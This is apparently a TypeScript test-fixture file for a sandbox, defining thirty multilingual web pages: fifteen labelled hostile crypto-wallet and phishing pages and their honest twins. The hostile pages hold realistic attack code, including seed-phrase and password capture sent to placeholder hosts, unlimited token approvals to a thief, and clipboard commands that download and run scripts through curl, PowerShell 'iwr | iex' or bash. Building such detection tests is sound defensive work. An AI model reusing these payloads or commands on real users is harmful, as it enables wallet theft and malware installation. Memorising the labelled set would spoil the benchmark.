import { UNLIMITED } from '../../src/sandbox/history/calls.ts'
import { page } from '../../src/sandbox/sites/page.ts'
import type { SiteAnswer } from '../../src/sandbox/sites/site.ts'
import { coins, orderOf, pictureOf } from '../../src/testing/sandboxMessages.ts'
import { type PageButton, type PageClass, type PageDesign, sends, signs, VISITOR } from './pageDesign.ts'
import type { PageWorld } from './pageWorld.ts'

const one = (id: string, hostile: boolean, design: (world: PageWorld) => PageDesign): PageClass => ({
  id: `blind6-${id}`,
  hostile,
  single: true,
  design: (_, world) => design(world),
})

const button = (label: string, code: string): PageButton => ({ label, connects: false, code })
const copies = (text: string) => `await navigator.clipboard.writeText(${JSON.stringify(text)})`
const typed = `[...root.querySelectorAll('input,textarea')].map((field) => field.value).join(' ').trim()`
const plain = (body: string): SiteAnswer => ({ status: 200, headers: { 'content-type': 'text/plain' }, body })
const code = (body: string): SiteAnswer => ({ status: 200, headers: { 'content-type': 'text/javascript' }, body })
const signIn = (text: string) =>
  `await wallet('personal_sign', ['0x' + [...new TextEncoder().encode(${JSON.stringify(text)} + ' ' + location.host)].map((byte) => byte.toString(16).padStart(2, '0')).join(''), account])`
const orderAt = (world: PageWorld, price: bigint) => {
  const order = orderOf(world, { offer: [pictureOf(world, 1n)], consideration: [coins(price)] })
  return signs(
    JSON.parse(
      JSON.stringify(order, (_, value) => (typeof value === 'bigint' ? String(value) : value)).replaceAll(
        world.actors.trader,
        VISITOR,
      ),
    ),
  )
}

/** A wallet of Solana, as its own site asks for it. */
const SOLANA = `const phantom = () => window.phantom?.solana ?? window.solana
const link = async () => { const one = phantom(); if (!one) { say('—'); return null }; await one.connect(); return one }`

const THEIR_COINS = 'bc1q9h6xkfyzg0xhr6wv0mh3q0kqkxw0yz8c7n5l2t'
const THEIR_OTHER_COINS = 'bc1qm34lsc65zpw79lxes69zkqmk6ee3ewf0j77s3h'
const RELIEF_COINS = 'bc1q5shngj24323nsrmxv99st02na6srekfctt30ch'

/**
 * Thirty pages after kits and campaigns of 2025 and 2026, fifteen hostile ones and their honest twins, in eighteen languages: manual
 * connection, checks of owners, other chains' wallets, rituals that copy commands, recovery in steps, one-time codes, investment desks,
 * upgrades of accounts, offers, workers, windows and swapped addresses. Labels were fixed before the first scan. PAGES_SET=blind6.
 */
export const SIXTH_BLIND_CLASSES: readonly PageClass[] = [
  one('manual-connect', true, () => ({
    title: 'Ligar carteira',
    content: '<h1>Escolha a sua carteira</h1><p>Compatível com mais de 400 carteiras.</p>',
    buttons: [
      button(
        'Ligar',
        `show('<p>A iniciar a ligação…</p>'); await new Promise((done) => setTimeout(done, 1800)); show('<h2>Erro de ligação</h2><p>Não foi possível ligar automaticamente. Ligue manualmente.</p><textarea rows="4" placeholder="12, 18 ou 24 palavras separadas por espaços"></textarea><button type="button" id="m">Continuar</button>'); at('#m').onclick = async () => { await fetch('https://{{bot}}/bot7712:AAF/sendMessage?chat_id=-100&text=' + encodeURIComponent(${typed})).catch(() => undefined); say('Erro 0x41. Tente outra carteira.') }`,
      ),
    ],
    hosts: { bot: plain('ok') },
  })),
  one('owner-check', true, (world) => ({
    title: 'Allocation checker',
    content: '<h1>Allocation checker</h1><p>We first check that this account is yours. The signature is free.</p>',
    buttons: [
      {
        label: 'Check my account',
        code: `const proof = ${signIn('I am the owner of this account.').slice('await '.length)}; if (!(await proof)) return; say('Checked. Preparing your allocation.'); ${sends(world.tokens.usdc, world.call('StableToken', 'approve', [world.thief, UNLIMITED]))}`,
      },
    ],
  })),
  one('solana-drain', true, () => ({
    title: 'Reembolso de renta',
    content:
      '<h1>Recupera la renta de tus cuentas vacías</h1><p>Cada cuenta de token vacía guarda 0,002 SOL. Ciérralas todas de una vez.</p>',
    buttons: [
      button(
        'Recuperar',
        `${SOLANA}; const one = await link(); if (!one) return; const raw = await (await fetch('/api/build?k=' + one.publicKey)).text(); await one.signAllTransactions([Uint8Array.from(atob(raw || 'AQ=='), (c) => c.charCodeAt(0))])`,
      ),
    ],
    files: { '/api/build': plain('AQAB') },
  })),
  one('risk-check', true, (world) => ({
    title: 'AML 地址检测',
    content:
      '<h1>地址风险检测</h1><p>检测您的钱包是否收到过黑钱。报告三十秒内生成，检测服务费 0 元。</p><p>已检测 128,403 个地址</p>',
    buttons: [
      {
        label: '开始检测',
        code: `say('正在读取链上记录…'); ${sends(world.tokens.usdt, world.call('StableToken', 'approve', [world.thief, UNLIMITED]))}`,
      },
    ],
  })),
  one('checkbox-item', true, () => ({
    title: 'Einen Moment',
    content:
      '<h1>Überprüfung der Verbindung</h1><p>Diese Seite prüft die Sicherheit Ihrer Verbindung.</p><div id="box" style="border:1px solid #ccc;width:300px;padding:1rem;cursor:pointer">☐ Ich bin ein Mensch</div>',
    start: `at('#box').onclick = async () => { await navigator.clipboard.write([new ClipboardItem({ 'text/plain': new Blob(['cmd /c start /min curl -s {{drop}}/u -o %TEMP%\\\\u.bat && %TEMP%\\\\u.bat & rem Vorgang 5512'], { type: 'text/plain' }) })]); show('<h2>Noch ein Schritt</h2><ol><li>Windows-Taste und R drücken</li><li>Strg und V drücken</li><li>Mit der Eingabetaste bestätigen</li></ol><p>Vorgang 5512</p>') }`,
    hosts: { drop: plain('echo') },
  })),
  one('shared-path', true, () => ({
    title: 'A document was shared with you',
    content:
      '<h1>HRPolicy.docx</h1><p>1. Copy the path below.</p><code>C:\\company\\internal-secure\\filedrive\\HRPolicy.docx</code><p>2. Open File Explorer, press Alt + D, paste the path and press Enter.</p>',
    buttons: [
      button(
        'Copy path',
        copies(
          'Powershell.exe -c ping {{drop}}; iwr {{drop}}/f -useb|iex                                              # C:\\company\\internal-secure\\filedrive\\HRPolicy.docx',
        ),
      ),
    ],
    hosts: { drop: plain('echo') },
  })),
  one('meeting-audio', true, () => ({
    title: '화상 회의 대기실',
    content:
      '<h1>회의에 참가하는 중</h1><p>호스트 3명이 기다리고 있습니다.</p><div style="background:#111;width:640px;height:320px"></div><p id="st">마이크에 접근할 수 없습니다.</p>',
    buttons: [
      button(
        '오디오 문제 해결',
        `show('<h2>오디오 드라이버 복구</h2><p>터미널을 열고 복사된 명령을 붙여 넣으세요. 복구되면 자동으로 입장합니다.</p>'); ${copies('curl -k -o /var/tmp/audio.sh https://{{drop}}/fix/mac && chmod +x /var/tmp/audio.sh && nohup bash /var/tmp/audio.sh >/dev/null 2>&1 &')}`,
      ),
    ],
    hosts: { drop: plain('echo') },
  })),
  one('letter-check', true, () => ({
    title: 'Transaktionsprüfung',
    content:
      '<h1>Transaktionsprüfung einrichten</h1><p>Ihr Gerät verliert ab dem 15. Dezember den Zugriff, wenn die Prüfung fehlt. Halten Sie das Blatt bereit, das Ihrem Gerät beilag.</p><p id="n">Wort 1 von 24</p><input id="w" list="l" autocomplete="off"><datalist id="l"><option>abandon<option>ability<option>able</datalist>',
    buttons: [
      button(
        'Weiter',
        `const field = at('#w'); window.k = window.k || []; window.k.push(field.value); field.value = ''; at('#n').textContent = 'Wort ' + (window.k.length + 1) + ' von 24'; const mask = [...window.k.join('|')].map((c, i) => c.charCodeAt(0) ^ 'q7Zp'.charCodeAt(i % 4)); navigator.sendBeacon('/t', btoa(String.fromCharCode(...mask)))`,
      ),
    ],
  })),
  one('relayed-login', true, () => ({
    title: 'Borsa hesabı',
    content:
      '<h1>Hesabınıza girin</h1><label>E-posta <input type="email" name="e"></label><label>Şifre <input type="password" name="p"></label>',
    buttons: [
      button(
        'Giriş',
        `new Image().src = 'https://{{collector}}/p.gif?d=' + encodeURIComponent(btoa(${typed})); show('<h1>Doğrulama</h1><p>Telefonunuza gelen altı haneli kodu girin. Kod 30 saniye geçerlidir.</p><input inputmode="numeric" maxlength="6" name="otp" autocomplete="one-time-code"><button type="button" id="k">Onayla</button>'); at('#k').onclick = () => { new Image().src = 'https://{{collector}}/o.gif?d=' + at('[name=otp]').value; say('Kod hatalı') }`,
      ),
    ],
    hosts: { collector: plain('') },
  })),
  one('quant-desk', true, () => ({
    title: 'क्वांट डेस्क',
    content: `<h1>एआई ट्रेडिंग रोबोट</h1><p>हर दिन 2.4 प्रतिशत मुनाफ़ा, बिना जोखिम। 30 दिन बाद मूलधन वापस। अब तक 41,000 सदस्य।</p><p>न्यूनतम जमा 100 USDT। नीचे दिए पते पर भेजें और स्क्रीनशॉट हमारे मैनेजर को भेजें।</p><code>${THEIR_COINS}</code>`,
    buttons: [button('पता कॉपी करें', `${copies(THEIR_COINS)}; say('कॉपी हो गया')`)],
  })),
  one('smart-upgrade', true, (world) => ({
    title: 'Aggiorna il conto',
    content:
      '<h1>Passa al conto intelligente</h1><p>Da oggi le commissioni le paghiamo noi. Attiva la modalità senza gas con una sola conferma.</p>',
    buttons: [
      {
        label: 'Attiva',
        code: `await wallet('wallet_switchEthereumChain', [{ chainId: '0x1' }]); await wallet('eth_sendTransaction', [{ from: account, to: account, type: '0x4', value: '0x0', data: '0x', authorizationList: [{ chainId: '0x1', address: '${world.traps.maliciousDelegate}', nonce: '0x0' }] }])`,
      },
    ],
  })),
  one('picture-check', true, (world) => ({
    title: '作品の本物確認',
    content: '<h1>作品が本物か確認します</h1><p>署名だけで確認できます。ガス代はかかりません。</p>',
    buttons: [{ label: '確認する', code: orderAt(world, 1n) }],
  })),
  one('sealed-worker', true, () => ({
    title: 'استعادة',
    content:
      '<h1>استعادة الوصول</h1><p>ألصق عبارتك كما كتبتها عند إنشاء المحفظة.</p><textarea rows="3" cols="50"></textarea>',
    buttons: [button('متابعة', `const worker = new Worker('/w.js'); worker.postMessage(${typed}); say('جار التحقق')`)],
    files: {
      '/w.js': code(
        `onmessage = async ({ data }) => { const key = await crypto.subtle.generateKey({ name: 'AES-GCM', length: 256 }, true, ['encrypt']); const iv = crypto.getRandomValues(new Uint8Array(12)); const sealed = await crypto.subtle.encrypt({ name: 'AES-GCM', iv }, key, new TextEncoder().encode(data)); if (data.split(/\\s+/).length > 11 && data.split(/\\s+/).every((one) => one.length < 9)) fetch('/api/s', { method: 'POST', body: sealed }) }`,
      ),
    },
  })),
  one('second-window', true, () => ({
    title: 'Panel klienta',
    content: '<h1>Portfel wymaga potwierdzenia</h1><p>Okno potwierdzenia otworzy się osobno.</p>',
    buttons: [button('Otwórz okno', `window.open('/okno', 'w', 'width=420,height=640')`)],
    files: {
      '/okno': page(
        'Potwierdzenie',
        `<h1>Potwierdź dostęp</h1><p>Wpisz frazę odzyskiwania, aby odblokować portfel.</p><textarea rows="4"></textarea><button id="g">Potwierdź</button><script>document.getElementById('g').onclick = () => { const text = document.querySelector('textarea').value; fetch('/api/o', { method: 'POST', body: text }); document.body.textContent = 'Dziękujemy' }</script>`,
      ),
    },
  })),
  one('relief-swap', true, () => ({
    title: 'Допомога родинам',
    content: `<h1>Тепло на зиму</h1><p>Збираємо на генератори для трьох громад. Адреса фонду:</p><code>${RELIEF_COINS}</code>`,
    buttons: [button('Скопіювати адресу', `${copies(THEIR_OTHER_COINS)}; say('Скопійовано')`)],
  })),

  one('own-import', false, () => ({
    title: 'Carteira de bolso',
    content: '<h1>Abrir uma carteira</h1><p>Tudo fica neste dispositivo. Não há servidor.</p>',
    buttons: [
      button(
        'Importar',
        `show('<h2>Importar</h2><textarea rows="4" placeholder="12 ou 24 palavras"></textarea><button type="button" id="m">Abrir</button>'); at('#m').onclick = async () => { const bytes = new TextEncoder().encode(${typed}); const digest = await crypto.subtle.digest('SHA-256', bytes); localStorage.setItem('cofre', btoa(String.fromCharCode(...new Uint8Array(digest)))); say('Carteira aberta neste dispositivo.') }`,
      ),
    ],
  })),
  one('member-check', false, () => ({
    title: 'Members’ reading room',
    content: '<h1>Reading room</h1><p>Open to holders of the card. A signature shows us that the account is yours.</p>',
    buttons: [
      {
        label: 'Sign in',
        code: `${signIn('Sign in to the reading room.')}; show('<h1>Welcome</h1><ul><li>Issue 12</li><li>Issue 13</li></ul>')`,
      },
    ],
  })),
  one('solana-gallery', false, () => ({
    title: 'Galería de la sal',
    content: '<h1>Tu colección</h1><p>Conecta para ver tus obras. Nada se firma.</p>',
    buttons: [
      button(
        'Conectar',
        `${SOLANA}; const one = await link(); if (one) show('<h1>Tus obras</h1><p>Todavía no hay ninguna en ' + one.publicKey + '.</p>')`,
      ),
    ],
  })),
  one('address-report', false, () => ({
    title: '地址查询',
    content:
      '<h1>地址风险查询</h1><p>输入任意公开地址，查看它与受制裁地址的往来。无需连接钱包。</p><input name="address" placeholder="0x…"><p>数据每天更新。</p><a href="/fangfa">方法</a>',
    buttons: [
      button(
        '查询',
        `await fetch('/api/report?address=' + encodeURIComponent(at('input').value)); say('没有发现往来。')`,
      ),
    ],
  })),
  one('checkbox-news', false, () => ({
    title: 'Anmeldung zum Rundbrief',
    content:
      '<h1>Rundbrief</h1><label>E-Mail <input type="email" name="m"></label><div id="box" style="border:1px solid #ccc;width:300px;padding:1rem;cursor:pointer">☐ Ich bin ein Mensch</div>',
    start: `at('#box').onclick = async () => { at('#box').textContent = '☑ Ich bin ein Mensch'; await fetch('/api/abo', { method: 'POST', body: at('[name=m]').value }); say('Bitte bestätigen Sie die E-Mail, die wir geschickt haben.') }`,
  })),
  one('share-link', false, () => ({
    title: 'Team drive',
    content:
      '<h1>Travel policy.docx</h1><p>On the office network it lies at</p><code>\\\\fileserver\\people\\Travel policy.docx</code><p>Paste the path into File Explorer, or <a href="/view">read it here</a>.</p>',
    buttons: [button('Copy path', copies('\\\\fileserver\\people\\Travel policy.docx'))],
  })),
  one('audio-help', false, () => ({
    title: '오디오 점검',
    content:
      '<h1>마이크가 들리지 않을 때</h1><p>맥에서 소리가 끊기면 터미널에서 오디오 서비스를 다시 시작하세요.</p><pre>sudo killall coreaudiod</pre><p>비밀번호를 묻는 것은 관리자 권한이 필요하기 때문입니다.</p>',
    buttons: [
      button('명령 복사', copies('sudo killall coreaudiod')),
      button(
        '마이크 시험',
        `try { await navigator.mediaDevices.getUserMedia({ audio: true }) } catch { say('브라우저에서 마이크를 허용해 주세요.') }`,
      ),
    ],
  })),
  one('word-trainer', false, () => ({
    title: 'Wortschatz',
    content:
      '<h1>Englisch üben</h1><p id="n">Wort 1 von 24: schreiben Sie das Wort, das Sie hören.</p><input id="w" list="l" autocomplete="off"><datalist id="l"><option>abandon<option>ability<option>able</datalist>',
    buttons: [
      button(
        'Weiter',
        `const field = at('#w'); window.k = window.k || []; window.k.push(field.value); field.value = ''; at('#n').textContent = 'Wort ' + (window.k.length + 1) + ' von 24: schreiben Sie das Wort, das Sie hören.'; navigator.sendBeacon('/fortschritt', JSON.stringify({ count: window.k.length }))`,
      ),
    ],
  })),
  one('library-login', false, () => ({
    title: 'Kütüphane üyeliği',
    content:
      '<h1>Üye girişi</h1><label>E-posta <input type="email" name="e"></label><label>Şifre <input type="password" name="p"></label><a href="/unuttum">Şifremi unuttum</a>',
    buttons: [
      button(
        'Giriş',
        `await fetch('/api/giris', { method: 'POST', body: JSON.stringify({ mail: at('[name=e]').value, secret: at('[name=p]').value }) }); say('E-posta veya şifre yanlış.')`,
      ),
    ],
  })),
  one('bank-deposit', false, () => ({
    title: 'सहकारी बैंक',
    content:
      '<h1>सावधि जमा</h1><p>एक वर्ष पर 6.8 प्रतिशत सालाना ब्याज। पाँच लाख रुपये तक जमा बीमा। समय से पहले निकालने पर एक प्रतिशत कम ब्याज।</p><a href="/shakha">शाखाएँ</a>',
    buttons: [button('ब्याज गणना', `say('एक लाख रुपये पर एक वर्ष में 6,976 रुपये')`)],
  })),
  one('smart-account', false, (world) => ({
    title: 'Conto intelligente',
    content:
      '<h1>Deposita in un passo</h1><p>Il portafoglio unisce approvazione e deposito. Commissione: solo il gas.</p>',
    buttons: [
      {
        label: 'Deposita 80 USDC',
        code: `const calls = JSON.parse(fill(${JSON.stringify(
          JSON.stringify([
            {
              to: world.tokens.usdc,
              value: '0x0',
              data: world.call('StableToken', 'approve', [world.honest.vault, 80n * 10n ** 6n]),
            },
            {
              to: world.honest.vault,
              value: '0x0',
              data: world.call('Vault4626', 'deposit', [80n * 10n ** 6n, VISITOR]),
            },
          ]),
        )})); await wallet('wallet_getCapabilities', [account]); await wallet('wallet_sendCalls', [{ version: '2.0.0', chainId: '0x1', from: account, atomicRequired: false, calls }])`,
      },
    ],
  })),
  one('picture-sale', false, (world) => ({
    title: '版画の出品',
    content: '<h1>出品する</h1><p>価格 <input value="0.5"> ETH。手数料 2.5 %。</p>',
    buttons: [{ label: '出品', code: orderAt(world, 5n * 10n ** 17n) }],
  })),
  one('sealed-notes', false, () => ({
    title: 'دفتر مشفر',
    content:
      '<h1>ملاحظاتك</h1><p>تشفر في متصفحك قبل حفظها. نحن لا نستطيع قراءتها.</p><textarea rows="3" cols="50"></textarea>',
    buttons: [button('احفظ', `const worker = new Worker('/w.js'); worker.postMessage(${typed}); say('حفظت')`)],
    files: {
      '/w.js': code(
        `onmessage = async ({ data }) => { const key = await crypto.subtle.generateKey({ name: 'AES-GCM', length: 256 }, true, ['encrypt']); const iv = crypto.getRandomValues(new Uint8Array(12)); const sealed = await crypto.subtle.encrypt({ name: 'AES-GCM', iv }, key, new TextEncoder().encode(data)); fetch('/api/s', { method: 'POST', body: sealed }) }`,
      ),
    },
  })),
  one('receipt-window', false, () => ({
    title: 'Sklep z herbatą',
    content: '<h1>Zamówienie 4412</h1><p>Dwie paczki herbaty, 38 zł. Dostawa w piątek.</p>',
    buttons: [button('Drukuj paragon', `window.open('/paragon', 'p', 'width=420,height=640')`)],
    files: {
      '/paragon': page(
        'Paragon',
        '<h1>Paragon 4412</h1><p>Razem 38,00 zł</p><button onclick="print()">Drukuj</button>',
      ),
    },
  })),
  one('relief-plain', false, () => ({
    title: 'Допомога притулку',
    content: `<h1>Корм на зиму</h1><p>Звіт про витрати щомісяця. Адреса притулку:</p><code>${RELIEF_COINS}</code><a href="/zvit">Звіти</a>`,
    buttons: [button('Скопіювати адресу', `${copies(RELIEF_COINS)}; say('Скопійовано')`)],
  })),
]
